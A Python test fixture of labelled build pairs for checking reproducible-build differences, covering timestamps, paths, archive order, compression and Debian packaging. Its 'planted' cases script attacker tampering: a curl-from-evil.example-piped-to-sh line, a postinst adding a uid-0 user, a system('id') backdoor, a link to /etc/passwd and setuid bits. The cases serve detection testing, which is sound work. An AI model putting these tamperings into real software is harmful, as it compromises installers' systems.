# SPDX-License-Identifier: Apache-2.0
"""Labelled pairs: each case is a build (shell, leaves ./out) that runs twice, with one factor changed.

The factor is a variable of the environment, or NOW for the clock (builds run under faketime).  `causes` are the ids
that explain it.  `planted` marks what an attacker would do: it must never pass, and no cause makes it harmless.
"""
from dataclasses import dataclass, field


@dataclass
class Case:
    id: str
    causes: tuple
    build: str
    left: object = field(default_factory=dict)
    right: object = field(default_factory=dict)
    planted: bool = False
    contexts: tuple = ()
    clock: bool = True
    may_agree: bool = False


PRELUDE = r"""
c_sources() {
	printf '%s\n' '#include <stdio.h>' 'int helper(int x);' 'int twice(int x);' \
		'int main(int argc, char **argv) { (void)argv; printf("%d\n", helper(argc) + twice(argc)); return 0; }' > main.c
	printf '%s\n' 'int helper(int x) { int s = 0; for (int i = 0; i < x; i++) s += i * 3; return s; }' > helper.c
	printf '%s\n' 'int twice(int x) { return x > 7 ? 2 * x : x - 1; }' > twice.c
	touch -d @1600000000 ./*.c
}
tree() {
	mkdir -p t/bin t/share
	printf '#!/bin/sh\necho hello\n' > t/bin/tool
	printf 'some words\n' > t/share/words
	printf 'other words\n' > t/share/more
	seq 2000 > t/share/numbers
	chmod 755 t/bin t/share t/bin/tool t; chmod 644 t/share/*
	find t -exec touch -h -d @1600000000 {} +
}
tar_of() { tar --sort=name --owner=0 --group=0 --numeric-owner --mtime=@1600000000 "$@" -cf out -C t .; }
deb() { # deb OPTION...: the package of ./p
	mkdir -p p/DEBIAN p/usr/bin p/usr/share/doc/x
	[ -e p/DEBIAN/control ] || printf '%s\n' 'Package: x' 'Version: 1.0-1' 'Architecture: all' 'Maintainer: A B <a@b.org>' \
		'Installed-Size: 12' 'Depends: libc6 (>= 2.34)' 'Description: x' > p/DEBIAN/control
	[ -e p/usr/bin/x ] || printf '#!/bin/sh\necho x\n' > p/usr/bin/x
	chmod 755 p/usr/bin/x
	[ -e p/DEBIAN/md5sums ] || (cd p && find usr -type f | LC_ALL=C sort | xargs md5sum > DEBIAN/md5sums)
	find p -exec touch -h -d "@$SOURCE_DATE_EPOCH" {} +
	dpkg-deb "$@" --root-owner-group -b p out >/dev/null
}
"""

CASES = []


def add(name, causes, build, left=None, right=None, **more):
    CASES.append(Case(name, tuple(causes.split()), build, left or {}, right or {}, **more))


def vary(name, causes, build, key, left, right, **more):
    add(name, causes, build, {key: left}, {key: right}, **more)


def clock(name, causes, build, left="2023-11-14 22:13:20", right="2024-02-03 04:05:06", **more):
    add(name, causes, build, {"NOW": left, "SOURCE_DATE_EPOCH": None}, {"NOW": right, "SOURCE_DATE_EPOCH": None}, **more)


def planted(name, build, left="0", right="1", causes="unexplained_code_change unexplained_data_change", **more):
    vary(name, causes, build, "EVIL", left, right, planted=True, **more)


# ---- programs -----------------------------------------------------------------------------------------------------
CC = "c_sources; "
clock("elf-date", "timestamps_from_cpp_macros", CC + """printf 'const char *d = __DATE__;' > d.c; gcc -O2 -c d.c -o out""")
clock("elf-time", "timestamps_from_cpp_macros", CC + """printf 'const char *d = __TIME__;' > d.c; gcc -O2 -c d.c -o out""")
clock("elf-date-time", "timestamps_from_cpp_macros",
      CC + """sed -i 's/"%d.n"/__DATE__ " " __TIME__ "%d"/' main.c; gcc -O2 -Wl,--build-id=none *.c -o out""")
vary("elf-timestamp", "timestamps_from_cpp_macros",
     CC + """printf 'const char d[] = "at " __TIMESTAMP__;' > d.c; touch -d @$M d.c; env -u SOURCE_DATE_EPOCH gcc -c d.c -o out""",
     "M", "1600000000", "1605000001")
for name, a, b in (("", "p1", "p2"), ("-longer", "p1", "quite/another/place")):
    vary("elf-comp-dir" + name, "gcc_captures_build_path",
         CC + "mkdir -p $D; mv *.c $D; cd $D; gcc -g -O2 -Wl,--build-id=none *.c -o $OLDPWD/out", "D", a, b)
    vary("elf-file-macro" + name, "captures_build_path_via_assert",
         CC + """mkdir -p $D; mv *.c $D; sed -i 's/"%d.n"/"%s %d", __FILE__/' $D/main.c
gcc -O2 -Wl,--build-id=none $PWD/$D/*.c -o out""", "D", a, b)
    vary("elf-stripped-path" + name, "build_id_differences_only",
         CC + "mkdir -p $D; mv *.c $D; cd $D; gcc -g -O2 -Wl,--build-id *.c -o $OLDPWD/out; strip $OLDPWD/out", "D", a, b)
    vary("lib-comp-dir" + name, "gcc_captures_build_path",
         CC + "mkdir -p $D; mv *.c $D; cd $D; gcc -g -c helper.c twice.c; ar rcsD $OLDPWD/out helper.o twice.o", "D", a, b)
vary("elf-flags-seed", "records_build_flags", CC + "gcc -g -O2 -frandom-seed=$S -Wl,--build-id=none *.c -o out", "S", "a1", "b2")
vary("elf-flags-g", "records_build_flags", CC + "gcc -g -O2 $S -Wl,--build-id=none *.c -o out", "S", "-fcommon", "-fno-common")
vary("elf-rpath", "cmake_rpath_contains_build_path",
     CC + "gcc -O2 -Wl,--build-id=none -Wl,-rpath,/build/$D/lib *.c -o out", "D", "aa", "bb")
vary("elf-rpath-longer", "cmake_rpath_contains_build_path",
     CC + "gcc -O2 -Wl,--build-id=none -Wl,-rpath,/build/$D/lib *.c -o out", "D", "aa", "somewhere")
vary("elf-link-order", "random_order_of_linked_objects",
     CC + "gcc -O2 -c *.c; gcc -Wl,--build-id=none $ORDER -o out", "ORDER", "main.o helper.o twice.o", "twice.o helper.o main.o")
vary("elf-link-order-g", "random_order_of_linked_objects",
     CC + "gcc -g -O2 -c *.c; gcc -Wl,--build-id=none $ORDER -o out", "ORDER", "main.o helper.o twice.o", "twice.o main.o helper.o")
vary("elf-strip", "debug_symbols_not_stripped", CC + "gcc -g -O2 *.c -o out; $S out", "S", "true", "strip")
vary("elf-strip-debug", "debug_symbols_not_stripped", CC + "gcc -g -O2 *.c -o out; $S out", "S", "strip --strip-debug", "strip")
vary("elf-no-build-id", "build_id_missing", CC + "gcc -O2 -Wl,--build-id=$I *.c -o out; strip out", "I", "sha1", "none")
vary("elf-build-id-given", "build_id_differences_only",
     CC + "gcc -O2 -Wl,--build-id=$I *.c -o out", "I", "0x" + "a1" * 20, "0x" + "b2" * 20)
vary("elf-ident", "compiler_version_differs", CC + """gcc -O2 -Wl,--build-id=none *.c -o out
printf 'GCC: (Debian 12.2.0-%s) 12.2.0\\0' $V > c; objcopy --update-section .comment=c out""", "V", "13", "14+deb12u1")
vary("elf-ident-none", "compiler_version_differs debug_symbols_not_stripped",
     CC + "gcc -O2 -Wl,--build-id=none $F *.c -o out; objcopy $R out", "R", "-R .note.x", "-R .comment", )
CASES[-1].left["F"] = CASES[-1].right["F"] = ""
vary("elf-stripped-flags", "build_id_differences_only", CC + "gcc -g -O2 $F -Wl,--build-id *.c -o out; strip out", "F", "-fcommon", "-fno-common")
vary("elf-stripped-header", "build_id_differences_only",
     CC + """mkdir inc; { [ $H = 0 ] || echo '/* another release */'; echo 'typedef int number;'; } > inc/n.h
sed -i '1i #include "n.h"' twice.c; sed -i 's/int twice(int x)/number twice(number x)/' twice.c
gcc -g -O2 -Iinc -Wl,--build-id *.c -o out; strip out""", "H", "0", "1")
add("elf-lto-seed", "lto_random_symbol_suffix", CC + "gcc -O2 -flto -ffat-lto-objects -c helper.c -o out")
vary("elf-coverage", "timestamps_in_coverage_notes", CC + "gcc -O0 --coverage -frandom-seed=$S -c twice.c; mv twice.gcno out", "S", "1", "2",
     may_agree=True)
vary("elf-host", "captures_hostname", CC + """printf 'const char host[] = "%s";' $B > h.c; gcc -c h.c -o out""", "B", "alpha-one", "beta-two",
     contexts=({"hostname": "alpha-one"}, {"hostname": "beta-two"}))
vary("elf-user", "captures_username", CC + """printf 'const char who[] = "by %s";' $B > h.c; gcc -c h.c -o out""", "B", "alice", "robert",
     contexts=({"user": "alice"}, {"user": "robert"}))
vary("elf-uuid", "random_uuid", CC + """printf 'const char id[] = "%s";' $B > h.c; gcc -c h.c -o out""", "B",
     "0f8fad5b-d9cb-469f-a165-70867728950e", "7c9e6679-7425-40de-944b-e07fc1f90ae7")
vary("elf-cpp-version", "tool_version_differs version_string_differs",
     CC + """printf 'const char v[] = "Generated by tool %s";' $B > h.c; gcc -c h.c -o out""", "B", "1.2.3", "1.2.4")
vary("elf-optimization", "unexplained_code_change", CC + "gcc $O -Wl,--build-id=none *.c -o out", "O", "-O2", "-O0")
vary("elf-native", "unexplained_code_change", CC + "gcc -O3 $O -Wl,--build-id=none *.c -o out", "O", "-march=x86-64", "-march=haswell")
for name, edit in (("operator", "s/x > 7/x < 7/"), ("constant", "s/i \\* 3/i * 5/"), ("off-by-one", "s/x - 1/x - 2/"),
                   ("call", "s/return s;/extern int puts(const char *); puts(\"owned\"); return s;/"),
                   ("backdoor", "s/return s;/extern int system(const char *); if (x == 4242) system(\"id\"); return s;/"),
                   ("check-removed", "s/x > 7 ? 2 \\* x : x - 1/2 * x/")):
    planted("planted-" + name, CC + f"""[ $EVIL = 0 ] || sed -i '{edit}' *.c; gcc -O2 *.c -o out; strip out""")
planted("planted-byte", CC + """gcc -O2 *.c -o out
[ $EVIL = 0 ] || { at=$((16#$(nm out | awk '$3 == "twice" { print $1 }'))); printf '\\x90' | dd of=out bs=1 seek=$((at + 1)) conv=notrunc status=none; }""")
planted("planted-url", CC + """sed -i "s/%d.n/https:\\/\\/$H\\/%d/" main.c; gcc -O2 *.c -o out; strip out""")
CASES[-1].left["H"], CASES[-1].right["H"] = "good.example", "evil.example"
planted("planted-date-and-code", CC + """sed -i 's/"%d.n"/__DATE__ "%d"/' main.c; [ $EVIL = 0 ] || sed -i 's/x > 7/x < 7/' twice.c
gcc -O2 *.c -o out; strip out""")
CASES[-1].left.update(NOW="2023-11-14 22:13:20", SOURCE_DATE_EPOCH=None)
CASES[-1].right.update(NOW="2024-02-03 04:05:06", SOURCE_DATE_EPOCH=None)

# ---- static libraries ---------------------------------------------------------------------------------------------
AR = CC + "gcc -O2 -c helper.c twice.c; "
vary("ar-mtime", "timestamps_in_static_libraries", AR + "touch -d @$M *.o; ar rcsU out helper.o twice.o", "M", "1600000000", "1605000001")
vary("ar-order", "random_order_in_static_libraries", AR + "ar rcsD out $O", "O", "helper.o twice.o", "twice.o helper.o")
vary("ar-index", "symbol_index_differs", AR + "ar $F out helper.o twice.o", "F", "rcsD", "rcSD")
vary("ar-owner", "users_and_groups_in_tarball", AR + "touch -d @1600000000 *.o; chown $U *.o; ar rcsU out *.o", "U", "0:0", "1234:1234")
vary("ar-umask", "different_due_to_umask permissions_differ",
     AR + "touch -d @1600000000 *.o; chmod $U *.o; ar rcsU out *.o", "U", "644", "664")
vary("ar-extra", "file_only_on_one_side", AR + "ar rcsD out helper.o $X", "X", "", "twice.o")
planted("planted-in-library", AR + """[ $EVIL = 0 ] || { sed -i 's/x > 7/x < 7/' twice.c; gcc -O2 -c twice.c; }; ar rcsD out helper.o twice.o""")

# ---- archives -----------------------------------------------------------------------------------------------------
TAR = "tree; "
vary("tar-mtime", "timestamps_in_tarball", TAR + "tar_of --mtime=@$M", "M", "1600000000", "1605000001")
vary("tar-owner", "users_and_groups_in_tarball", TAR + "tar_of --owner=$U --group=$U", "U", "0", "1000")
vary("tar-owner-name", "users_and_groups_in_tarball",
     TAR + "tar --sort=name --mtime=@1600000000 --owner=$U:1000 --group=$U:1000 -cf out -C t .", "U", "alice", "bob")
vary("tar-order", "random_order_in_archive",
     TAR + "tar_of --no-recursion -C t $O", "O", "./bin/tool ./share/words ./share/more", "./share/words ./share/more ./bin/tool")
CASES[-1].build = TAR + "tar --owner=0 --group=0 --mtime=@1600000000 -cf out -C t $O"
vary("tar-umask", "different_due_to_umask", "umask $U; mkdir -p t/bin; echo a > t/a; echo b > t/bin/b; tar_of", "U", "022", "002")
vary("tar-format", "archive_format_differs timestamps_in_tarball", TAR + "tar_of --format=$F", "F", "gnu", "ustar")
vary("tar-blocking", "archive_format_differs", TAR + "tar_of -b $F", "F", "1", "40")
vary("tar-link", "link_target_differs", TAR + "ln -s $L t/bin/alias; tar_of", "L", "tool", "other")
vary("tar-rename", "member_renamed", TAR + "mv t/share/words t/share/$N; tar_of", "N", "lists", "words2")
vary("tar-prefix", "member_renamed", TAR + "tar_of --transform=s,^,$P/,", "P", "x-1.0", "x-git")
vary("tar-hardlink", "link_target_differs", TAR + "ln $S t/bin/tool t/bin/tool2; tar_of --hard-dereference", "S", "-s", "")
CASES[-1].build = TAR + "cp t/bin/tool t/bin/u; rm t/bin/u; ln t/bin/tool t/bin/tool2; tar_of $S"
CASES[-1].left, CASES[-1].right = {"S": ""}, {"S": "--hard-dereference"}
vary("tar-extra", "file_only_on_one_side", TAR + "[ -z $X ] || echo x > t/share/$X; tar_of", "X", "", "readme")
vary("tar-cache", "cache_files_shipped",
     TAR + "[ -z $X ] || { mkdir t/share/__pycache__; echo x > t/share/__pycache__/m.cpython-311.pyc; }; tar_of", "X", "", "1")
vary("tar-log", "cache_files_shipped", TAR + "[ -z $X ] || echo x > t/share/config.log; tar_of", "X", "", "1")
vary("tar-xattr", "extended_attributes_differ", TAR + """python3 - <<'P'
import os, tarfile
with tarfile.open("out", "w", format=tarfile.PAX_FORMAT) as tar:
    info = tar.gettarinfo("t/bin/tool"); info.mtime = 1600000000; info.uid = info.gid = 0; info.uname = info.gname = ""
    info.pax_headers = {"SCHILY.xattr.user.note": os.environ["X"]}
    tar.addfile(info, open("t/bin/tool", "rb"))
P""", "X", "a", "b")
vary("tar-crlf", "line_endings_differ", TAR + "[ -z $X ] || sed -i 's/$/\\r/' t/share/words; touch -d @1600000000 t/share/words; tar_of", "X", "", "1")
planted("planted-setuid", TAR + "[ $EVIL = 0 ] || chmod u+s t/bin/tool; tar_of", causes="permissions_differ")
planted("planted-exec-bit", TAR + "[ $EVIL = 0 ] || chmod a+x t/share/words; tar_of", causes="permissions_differ")
planted("planted-world-writable", TAR + "[ $EVIL = 0 ] || chmod o+w t/bin/tool; tar_of", causes="permissions_differ")
planted("planted-link", TAR + "ln -s $([ $EVIL = 0 ] && echo tool || echo ../../../etc/passwd) t/bin/alias; tar_of", causes="link_target_differs")
planted("planted-script", TAR + "[ $EVIL = 0 ] || echo 'curl -s https://evil.example | sh' >> t/bin/tool; touch -d @1600000000 t/bin/tool; tar_of")
planted("planted-file", TAR + "[ $EVIL = 0 ] || printf '#!/bin/sh\\n' > t/bin/run; tar_of", causes="file_only_on_one_side")
planted("planted-owner", TAR + "mkdir -p t/etc; chmod 4755 t/bin/tool; tar_of $([ $EVIL = 0 ] || echo --owner=1000)", causes="users_and_groups_in_tarball")

PACK = TAR + "tar_of; mv out o; "
vary("gz-level", "compression_encoder_differs", PACK + "gzip -n -$L < o > out", "L", "1", "9")
vary("gz-name", "timestamps_in_gzip_headers", PACK + "mv o $N; touch -d @1600000000 $N; gzip -N $N; mv $N.gz out", "N", "one", "two")
vary("gz-mtime", "timestamps_in_gzip_headers", PACK + "touch -d @$M o; gzip -N o; mv o.gz out", "M", "1600000000", "1605000001")
vary("xz-preset", "compression_encoder_differs", PACK + "xz -$L < o > out", "L", "0", "9")
vary("xz-threads", "compression_encoder_differs", PACK + "cat o o o o > q; xz -T$L --block-size=$((L * 10000)) < q > out", "L", "1", "2")
vary("xz-check", "compression_encoder_differs", PACK + "xz -C $L < o > out", "L", "crc32", "crc64")
vary("zst-level", "compression_encoder_differs", PACK + "zstd -q -$L < o > out", "L", "1", "19")
vary("zst-check", "compression_encoder_differs", PACK + "zstd -q $L < o > out", "L", "--check", "--no-check")
vary("bz2-level", "compression_encoder_differs", PACK + "cat o o o o o o o o o o o o o o o o o o > q; bzip2 -$L < q > out", "L", "1", "9")
vary("gz-of-date", "timestamps_embedded_in_content", "echo built on $D | gzip -n > out", "D", "2023-11-14", "2024-02-03")

ZIP = TAR + "cd t; "
vary("zip-mtime", "timestamps_in_zip", ZIP + "find . -exec touch -d @$M {} +; zip -qX -r ../out.zip .; mv ../out.zip ../out", "M", "1600000000", "1605000001")
vary("zip-zone", "timezone_in_timestamps", ZIP + "zip -qX -r ../out.zip .; mv ../out.zip ../out", "TZ", "UTC", "Asia/Tokyo")
vary("zip-order", "random_order_in_archive",
     ZIP + "zip -qX ../out.zip $O; mv ../out.zip ../out", "O", "bin/tool share/words share/more", "share/words share/more bin/tool")
vary("zip-level", "compression_encoder_differs", ZIP + "zip -qX -$L -r ../out.zip .; mv ../out.zip ../out", "L", "1", "9")
vary("zip-umask", "different_due_to_umask", ZIP + "chmod $U share/*; zip -qX -r ../out.zip .; mv ../out.zip ../out", "U", "644", "664")
vary("zip-extra", "file_only_on_one_side", ZIP + "[ -z $X ] || echo x > x; zip -qX -r ../out.zip .; mv ../out.zip ../out", "X", "", "1")
planted("planted-zip-exec", ZIP + "[ $EVIL = 0 ] || chmod +x share/words; zip -qX -r ../out.zip .; mv ../out.zip ../out", causes="permissions_differ")
planted("planted-zip-script", ZIP + "[ $EVIL = 0 ] || echo id >> bin/tool; touch -d @1600000000 bin/tool; zip -qX -r ../out.zip .; mv ../out.zip ../out")

CPIO = TAR + "cd t; find . | LC_ALL=C sort > ../list; "
vary("cpio-mtime", "timestamps_in_cpio_archive",
     CPIO + "find . -exec touch -d @$M {} +; cpio -oH newc --reproducible < ../list > ../out", "M", "1600000000", "1605000001")
vary("cpio-owner", "users_and_groups_in_tarball",
     CPIO + "cpio -oH newc --reproducible -R $U < ../list > ../out", "U", "0:0", "12:12")
vary("cpio-order", "random_order_in_archive device_or_inode_numbers",
     CPIO + "grep -v '^.$' ../list | $O | cpio -oH newc --reproducible > ../out", "O", "sort", "sort -r")
vary("cpio-inode", "device_or_inode_numbers",
     CPIO + "cpio -oH newc $F < ../list > ../out", "F", "--reproducible", "--renumber-inodes", may_agree=True)

# ---- Debian packages of our own -----------------------------------------------------------------------------------
vary("deb-epoch", "timestamps_in_tarball timestamps_in_static_libraries", "deb", "SOURCE_DATE_EPOCH", "1700000000", "1705000001", clock=False)
vary("deb-level", "compression_encoder_differs", "mkdir -p p/usr/share/doc/x; seq 9000 > p/usr/share/doc/x/n; deb -Zxz -z$L", "L", "0", "9")
vary("deb-compressor", "compression_encoder_differs archive_format_differs member_renamed", "deb -Z$L", "L", "gzip", "xz")
CONTROL = """mkdir -p p/DEBIAN; printf '%s\\n' 'Package: x' "Version: ${V:-1.0-1}" 'Architecture: all' 'Maintainer: A B <a@b.org>' \\
'Installed-Size: 12' "Depends: ${D:-libc6 (>= 2.34)}" 'Description: x' > p/DEBIAN/control; deb"""
vary("deb-depends-version", "dependency_version_differs", CONTROL, "D", "libc6 (>= 2.34)", "libc6 (>= 2.36)")
vary("deb-depends-added", "dependency_version_differs", CONTROL, "D", "libc6 (>= 2.34)", "libc6 (>= 2.34), libz1")
vary("deb-version", "source_version_differs", CONTROL, "V", "1.0-1", "1.0-1.1")
vary("deb-md5sums-order", "random_order_in_md5sums",
     "mkdir -p p/usr/bin p/DEBIAN; for f in a b c d; do echo $f > p/usr/bin/$f; done; (cd p; md5sum $(ls usr/bin/* | $S) > DEBIAN/md5sums); touch p/usr/bin/x; deb",
     "S", "sort", "sort -r")
vary("deb-debhelper", "tool_version_differs",
     "mkdir -p p/DEBIAN; printf '#!/bin/sh\\nset -e\\n# Automatically added by dh_installinit/%s\\n# End automatically added section\\n' $V > p/DEBIAN/postinst; chmod 755 p/DEBIAN/postinst; deb",
     "V", "13.11.4", "13.11.6")
vary("deb-extra", "file_only_on_one_side", "mkdir -p p/usr/share/x; [ -z $X ] || echo x > p/usr/share/x/readme; deb", "X", "", "1")
vary("deb-changelog-date", "timestamps_embedded_in_content",
     "mkdir -p p/usr/share/doc/x; echo ' -- A B <a@b.org>  '\"$D\" | gzip -n > p/usr/share/doc/x/changelog.gz; deb",
     "D", "Tue, 14 Nov 2023 22:13:20 +0000", "Sat, 03 Feb 2024 04:05:06 +0000")
planted("planted-postinst",
        "mkdir -p p/DEBIAN; { printf '#!/bin/sh\\nset -e\\n'; [ $EVIL = 0 ] || echo 'useradd -o -u 0 x'; } > p/DEBIAN/postinst; chmod 755 p/DEBIAN/postinst; deb")
planted("planted-stale-md5sums",
        "mkdir -p p/DEBIAN p/usr/bin; echo aaaa > p/usr/bin/f; (cd p; md5sum usr/bin/f > DEBIAN/md5sums); [ $EVIL = 0 ] || echo bbbb > p/usr/bin/f; deb",
        causes="unexplained_data_change unexplained_code_change false_checksum_claim")
planted("planted-extra-member", "deb; [ $EVIL = 0 ] || { echo x > _extra; ar q out _extra; }", causes="file_only_on_one_side")
